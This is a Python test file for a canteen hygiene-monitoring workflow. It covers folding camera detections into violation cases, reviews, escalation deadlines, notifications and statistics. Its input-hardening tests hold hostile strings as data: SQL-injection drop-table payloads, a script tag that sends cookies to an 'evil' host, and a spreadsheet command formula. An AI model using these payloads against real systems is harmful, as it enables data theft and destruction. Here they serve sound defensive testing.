"""Folding detections into violations, review, deadlines, escalation and the read functions.

Real SQLite and PostgreSQL (``db_url``) and the real ledger; time comes from a controllable clock.
"""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from canteen_watch.workflows.errors import InputError, NotFoundError, PermissionDenied, TransitionError
from canteen_watch.workflows.escalation import escalate_overdue
from canteen_watch.workflows.models import OutboxRow, ReviewRow, ViolationDetectionRow, ViolationRow
from canteen_watch.workflows.tiers import WorkflowSettings
from canteen_watch.workflows.violations import (
    fold_detections,
    list_violations,
    review_queue,
    review_violation,
    violation_detail,
    violation_stats,
)
from tests.test_workflows_support import T0, Clock, WorkflowEnv, make_env, wf, wf_sqlite  # noqa: F401

MIN = timedelta(minutes=1)


def test_one_rat_in_many_snapshots_is_one_case(wf: WorkflowEnv) -> None:
    cases = [wf.snapshot("cam-a", T0 + i * 5 * MIN, ["pest"])[1] for i in range(6)]
    ids = {c[0].id for c in cases}
    assert len(ids) == 1, "six pest detections five minutes apart fold into one case"
    case = cases[-1][0]
    assert case.detection_count == 6 and case.state == "open" and case.tier == 1
    assert case.first_seen_at == T0 and case.last_seen_at == T0 + 25 * MIN
    assert case.due_at == T0 + timedelta(hours=24), "tier 1 is due 24 h after the first detection"
    # same camera, other label: its own case; other camera, same label: its own case
    _sid, both = wf.snapshot("cam-a", T0 + 26 * MIN, ["pest", "no_hat", "no_hat", "person"])
    assert {v.label for v in both} == {"pest", "no_hat"}
    assert next(v for v in both if v.label == "pest").id == case.id
    hat = next(v for v in both if v.label == "no_hat")
    assert hat.detection_count == 2 and hat.tier == 3 and hat.due_at == T0 + 26 * MIN + timedelta(days=7)
    other = wf.open_case("pest", "cam-b", T0 + 26 * MIN)
    assert other.id not in (case.id, hat.id)
    # outside the 30-minute window after the last detection: a new case
    later = wf.open_case("pest", "cam-a", T0 + 26 * MIN + 31 * MIN)
    assert later.id != case.id
    assert wf.ledger_actions(f"violation:{case.id}") == ["violation.opened"] + ["violation.folded"] * 6
    payload = json.loads(wf.ledger_payloads(f"violation:{case.id}")[0])
    assert payload["label"] == "pest" and payload["tier"] == 1 and payload["site"] == "s-a" and payload["district"] == "Central"
    wf.verify_ledger()


def test_folding_is_idempotent_ignores_low_scores_and_unknown_labels(wf_sqlite: WorkflowEnv) -> None:
    wf = wf_sqlite
    wf.config = WorkflowSettings(min_score=0.5)
    snapshot_id, cases = wf.snapshot("cam-a", T0, [("pest", 0.95), ("pest", 0.3), ("person", 0.99), ("no_mask", 0.4)])
    assert [(c.label, c.detection_count) for c in cases] == [("pest", 1)]
    with wf.sessions() as session:
        assert fold_detections(session, wf.sink, snapshot_id, config=wf.config) == []  # nothing new to fold
        assert session.scalar(select(func.count()).select_from(ViolationDetectionRow)) == 1
    with pytest.raises(NotFoundError, match="no snapshot 999"):
        with wf.sessions() as session:
            fold_detections(session, wf.sink, 999)


def test_out_of_order_snapshot_folds_and_closed_case_is_not_reopened(wf_sqlite: WorkflowEnv) -> None:
    wf = wf_sqlite
    case = wf.open_case("no_mask", "cam-a", T0 + 20 * MIN)
    _sid, early = wf.snapshot("cam-a", T0, ["no_mask"])  # journal replay: older than the case
    assert early[0].id == case.id and early[0].first_seen_at == T0 and early[0].last_seen_at == T0 + 20 * MIN
    with wf.sessions() as session:
        session.get(ViolationRow, case.id).state = "closed"
        session.commit()
    fresh = wf.open_case("no_mask", "cam-a", T0 + 25 * MIN)
    assert fresh.id != case.id and fresh.state == "open"
    dismissed = fresh
    review_violation(wf.sessions, wf.sink, wf.user("manager"), dismissed.id, outcome="false_positive", reason="poster of a mask", now=T0 + 26 * MIN)
    again = wf.open_case("no_mask", "cam-a", T0 + 40 * MIN)
    assert again.id == dismissed.id and again.state == "dismissed", "a recurring false positive does not open new cases"


def test_review_confirm_and_false_positive_are_recorded_per_user(wf: WorkflowEnv) -> None:
    clock = Clock(T0 + timedelta(hours=1))
    case = wf.open_case("open_storage", "cam-a")
    confirmed = review_violation(wf.sessions, wf.sink, wf.user("manager"), case.id, outcome="confirmed", now=clock())
    assert confirmed.state == "rectification_due" and confirmed.review_outcome == "confirmed"
    assert confirmed.due_at == T0 + timedelta(hours=72)
    with pytest.raises(TransitionError, match="cannot confirm a violation that is rectification_due"):
        review_violation(wf.sessions, wf.sink, wf.user("inspector"), case.id, outcome="confirmed", now=clock())
    other = wf.open_case("no_hat", "cam-a")
    with pytest.raises(InputError, match="reason: is required"):
        review_violation(wf.sessions, wf.sink, wf.user("inspector"), other.id, outcome="false_positive", now=clock())
    with pytest.raises(InputError, match="outcome"):
        review_violation(wf.sessions, wf.sink, wf.user("inspector"), other.id, outcome="maybe", now=clock())
    dismissed = review_violation(wf.sessions, wf.sink, wf.user("inspector"), other.id, outcome="false_positive", reason="a hair net, not bare hair", now=clock())
    assert dismissed.state == "dismissed" and dismissed.closed_at == clock()
    with wf.sessions() as session:
        reviews = session.execute(select(ReviewRow.violation_id, ReviewRow.user_id, ReviewRow.role, ReviewRow.outcome).order_by(ReviewRow.id)).all()
    assert [tuple(r) for r in reviews] == [
        (case.id, wf.user("manager").id, "canteen_manager", "confirmed"),
        (other.id, wf.user("inspector").id, "inspector", "false_positive"),
    ]
    payload = json.loads(wf.ledger_payloads(f"violation:{other.id}")[-1])
    assert payload["outcome"] == "false_positive" and payload["role"] == "inspector" and payload["from"] == "open" and payload["to"] == "dismissed"
    assert "inspector" not in json.dumps(payload).replace('"inspector"', ""), "no user names in the ledger"
    assert wf.ledger_actions(f"violation:{other.id}")[-1] == "violation.reviewed"
    with pytest.raises(PermissionDenied, match="registrar may not violation.review"):
        review_violation(wf.sessions, wf.sink, wf.user("registrar"), wf.open_case("pest", "cam-b").id, outcome="confirmed")
    with pytest.raises(NotFoundError):
        review_violation(wf.sessions, wf.sink, wf.user("admin"), 123456, outcome="confirmed")


def test_deadlines_and_escalation_with_a_controllable_clock(wf: WorkflowEnv) -> None:
    clock = Clock(T0)
    pest = wf.open_case("pest", "cam-a", clock())            # due T0+24h, red at +48h
    storage = wf.open_case("open_storage", "cam-c", clock())  # due T0+72h, red at +120h
    hat = wf.open_case("no_hat", "cam-b", clock())            # due T0+7d, red at +14d
    review_violation(wf.sessions, wf.sink, wf.user("admin"), storage.id, outcome="confirmed", now=clock())

    assert escalate_overdue(wf.sessions, wf.sink, clock.advance(hours=23, minutes=59), config=wf.config).yellow == []
    report = escalate_overdue(wf.sessions, wf.sink, clock.advance(minutes=1), config=wf.config)
    assert (report.yellow, report.red) == ([pest.id], []), "an unreviewed pest case turns yellow at its deadline"
    assert escalate_overdue(wf.sessions, wf.sink, clock.advance(hours=1), config=wf.config).yellow == [], "escalation happens once per level"
    report = escalate_overdue(wf.sessions, wf.sink, clock.advance(hours=23), config=wf.config)  # T0+48h
    assert (report.yellow, report.red) == ([], [pest.id])
    # a job that did not run for days makes both steps at once
    report = escalate_overdue(wf.sessions, wf.sink, T0 + timedelta(hours=121), config=wf.config)
    assert report.yellow == [storage.id] and report.red == [storage.id]
    page = list_violations(wf.sessions, wf.user("admin"), overdue=True, now=T0 + timedelta(hours=121))
    assert {v.id for v in page.items} == {pest.id, storage.id}
    assert {v.id: v.escalation for v in page.items} == {pest.id: "red", storage.id: "red"}
    assert next(v for v in page.items if v.id == pest.id).overdue_days(T0 + timedelta(hours=121)) == 5
    assert wf.ledger_actions(f"violation:{storage.id}") == ["violation.opened", "violation.reviewed", "violation.escalated", "violation.escalated"]
    levels = [json.loads(p).get("level") for p in wf.ledger_payloads(f"violation:{storage.id}")]
    assert levels[-2:] == ["yellow", "red"]
    assert escalate_overdue(wf.sessions, wf.sink, T0 + timedelta(days=30), config=wf.config).red == [hat.id]
    wf.verify_ledger()


def test_read_functions_filters_pagination_queue_detail_and_stats(wf: WorkflowEnv) -> None:
    now = T0 + timedelta(hours=30)
    made = [wf.open_case("pest", "cam-a", T0 + i * timedelta(hours=1)) for i in range(5)]  # 1 h apart: 5 cases
    hat = wf.open_case("no_hat", "cam-b", T0)
    north = wf.open_case("open_storage", "cam-c", T0)
    admin, manager, inspector = wf.user("admin"), wf.user("manager"), wf.user("inspector")
    review_violation(wf.sessions, wf.sink, admin, made[0].id, outcome="confirmed", now=now)
    review_violation(wf.sessions, wf.sink, admin, made[1].id, outcome="false_positive", reason="toy", now=now)

    page1 = list_violations(wf.sessions, admin, per_page=3, now=now)
    page3 = list_violations(wf.sessions, admin, per_page=3, page=3, now=now)
    assert page1.total == 7 and page1.pages == 3 and page1.has_next and len(page1.items) == 3 and len(page3.items) == 1
    assert [v.first_seen_at for v in page1.items] == sorted((v.first_seen_at for v in page1.items), reverse=True)
    assert {v.id for v in list_violations(wf.sessions, manager, now=now).items} == {v.id for v in made}, "a manager sees only their own site"
    assert {v.id for v in list_violations(wf.sessions, inspector, now=now).items} == {v.id for v in made} | {hat.id}
    assert list_violations(wf.sessions, admin, district="North", now=now).items[0].id == north.id
    assert {v.id for v in list_violations(wf.sessions, admin, states=["open"], tier=1, now=now).items} == {v.id for v in made[2:]}
    assert list_violations(wf.sessions, admin, label="no_hat", now=now).total == 1
    assert list_violations(wf.sessions, admin, seen_from=T0 + timedelta(hours=3), now=now).total == 2
    assert {v.id for v in list_violations(wf.sessions, admin, overdue=True, now=now).items} == {v.id for v in made} - {made[1].id}
    with pytest.raises(InputError, match="per_page"):
        list_violations(wf.sessions, admin, per_page=10_000)
    with pytest.raises(InputError, match="unknown state"):
        list_violations(wf.sessions, admin, states=["open'; DROP TABLE violations; --"])

    queue = review_queue(wf.sessions, manager)
    assert [v.id for v in queue] == [v.id for v in made[2:]], "open cases of the manager's site, most urgent first"
    assert [v.tier for v in review_queue(wf.sessions, inspector)] == [1, 1, 1, 3]
    with pytest.raises(PermissionDenied):
        review_queue(wf.sessions, wf.user("auditor"))

    detail = violation_detail(wf.sessions, manager, made[0].id)
    assert detail.site_name == "No. 1 Primary School canteen" and detail.site_kind == "school_canteen"
    assert [h.action for h in detail.history] == ["violation.opened", "violation.reviewed"]
    assert detail.reviews[0].role == "admin" and detail.reviews[0].outcome == "confirmed"
    assert detail.allowed_actions == ["submit_rectification"]
    assert len(detail.evidence) == 1 and detail.evidence[0].kind == "snapshot" and len(detail.evidence[0].sha256) == 64
    assert violation_detail(wf.sessions, inspector, made[0].id).allowed_actions == ["hold_evidence"]
    with pytest.raises(PermissionDenied, match="outside the jurisdiction"):
        violation_detail(wf.sessions, manager, north.id)

    stats = {s.key: s for s in violation_stats(wf.sessions, admin, now=now)}
    assert set(stats) == {"Central", "North"}
    central = stats["Central"]
    assert central.open_by_tier == {1: 4, 3: 1} and central.open_total == 5 and central.total == 6
    assert central.overdue == 4 and central.confirmed == 1 and central.dismissed == 1 and central.closed == 0 and central.rectification_rate == 0.0
    assert stats["North"].rectification_rate is None
    by_site = {s.key: s for s in violation_stats(wf.sessions, manager, group_by="site", now=now)}
    assert set(by_site) == {"s-a"}
    with pytest.raises(InputError, match="group_by"):
        violation_stats(wf.sessions, admin, group_by="camera")


def test_notifications_are_queued_with_the_change_and_roll_back_with_it(wf_sqlite: WorkflowEnv) -> None:
    from canteen_watch.workflows.notifications import add_endpoint

    wf = wf_sqlite
    add_endpoint(wf.sessions, wf.sink, wf.system, name="s-a kitchen", audience="manager", scope="site:s-a", channel="webhook", target="http://127.0.0.1:9/hook")
    add_endpoint(wf.sessions, wf.sink, wf.system, name="Central office", audience="regulator", scope="district:Central", channel="webhook", target="http://127.0.0.1:9/reg")
    add_endpoint(wf.sessions, wf.sink, wf.system, name="North office", audience="regulator", scope="district:North", channel="webhook", target="http://127.0.0.1:9/north")
    case = wf.open_case("pest", "cam-a")
    wf.snapshot("cam-a", T0 + MIN, ["pest"])  # folded: no new notification
    with wf.sessions() as session:
        rows = session.execute(select(OutboxRow.event, OutboxRow.audience, OutboxRow.target).order_by(OutboxRow.id)).all()
    assert [tuple(r) for r in rows] == [("violation.new", "manager", "http://127.0.0.1:9/hook"), ("violation.new", "regulator", "http://127.0.0.1:9/reg")]
    with pytest.raises(RuntimeError):
        from canteen_watch.db.base import write_transaction

        with write_transaction(wf.sessions) as session:
            from canteen_watch.db.models import DetectionRow, SnapshotRow

            snap = SnapshotRow(camera_id="cam-a", site_id="s-a", slot_time=T0 + timedelta(hours=5), status="stored", claimed_at=T0, attempts=1)
            session.add(snap)
            session.flush()
            session.add(DetectionRow(snapshot_id=snap.id, label="pest", score=0.9, x1=0, y1=0, x2=1, y2=1, model_version="t", extra={}))
            session.flush()
            assert fold_detections(session, wf.sink, snap.id, config=wf.config)[0].id != case.id
            raise RuntimeError("the pipeline's record transaction fails after folding")
    with wf.sessions() as session:
        assert session.scalar(select(func.count()).select_from(OutboxRow)) == 2
        assert session.scalar(select(func.count()).select_from(ViolationRow)) == 1
    wf.verify_ledger()


def test_fold_serialises_concurrent_snapshots_of_one_camera(wf: WorkflowEnv) -> None:
    import threading

    barrier = threading.Barrier(4)
    errors: list[BaseException] = []

    def worker(i: int) -> None:
        try:
            barrier.wait()
            wf.snapshot("cam-a", T0 + i * MIN, ["pest"])
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    with wf.sessions() as session:
        assert session.scalar(select(func.count()).select_from(ViolationRow)) == 1
        assert session.scalar(select(ViolationRow.detection_count)) == 4
    wf.verify_ledger()


def test_make_env_without_users_and_stats_for_nobody(tmp_path) -> None:  # type: ignore[no-untyped-def]
    env = make_env(f"sqlite:///{tmp_path / 'empty.db'}", users=False)
    try:
        assert violation_stats(env.sessions, env.system) == []
        assert list_violations(env.sessions, env.system).total == 0
    finally:
        env.engine.dispose()


@pytest.mark.parametrize(
    ("reason", "error"),
    [
        ("'; DROP TABLE violations; --", None),
        ("<script>document.location='http://evil/'+document.cookie</script>", None),
        ("第一行\n\t第二行 <b>粗体</b> & \"quotes\" \\ backslash", None),
        ("=cmd|' /C calc'!A0", None),
        ("x" * 2001, "is 2001 characters long; at most 2000"),
        ("bell\x07", "U\\+0007"),
        ("escape \x1b[2J", "U\\+001B"),
        ("nul \x00 byte", "U\\+0000"),
        ("bidi \u202e override", "U\\+202E"),
        ("zero\u200bwidth", "U\\+200B"),
        ("line\u2028separator", "U\\+2028"),
        ("lone \ud800 surrogate", "U\\+D800"),
    ],
    ids=lambda v: v[:12] if isinstance(v, str) else v,
)
def test_hostile_review_reasons_are_stored_verbatim_or_refused(wf_sqlite: WorkflowEnv, reason: str, error: str | None) -> None:
    case = wf_sqlite.open_case("no_hat", "cam-a")
    admin = wf_sqlite.user("admin")
    if error is not None:
        with pytest.raises(InputError, match=f"reason: .*{error}"):
            review_violation(wf_sqlite.sessions, wf_sqlite.sink, admin, case.id, outcome="false_positive", reason=reason)
        assert violation_detail(wf_sqlite.sessions, admin, case.id).violation.state == "open"
        return
    review_violation(wf_sqlite.sessions, wf_sqlite.sink, admin, case.id, outcome="false_positive", reason=reason)
    detail = violation_detail(wf_sqlite.sessions, admin, case.id)
    assert detail.reviews[0].reason == reason and detail.violation.state == "dismissed"
    assert reason not in "".join(wf_sqlite.ledger_payloads(f"violation:{case.id}")), "free text stays out of the ledger"
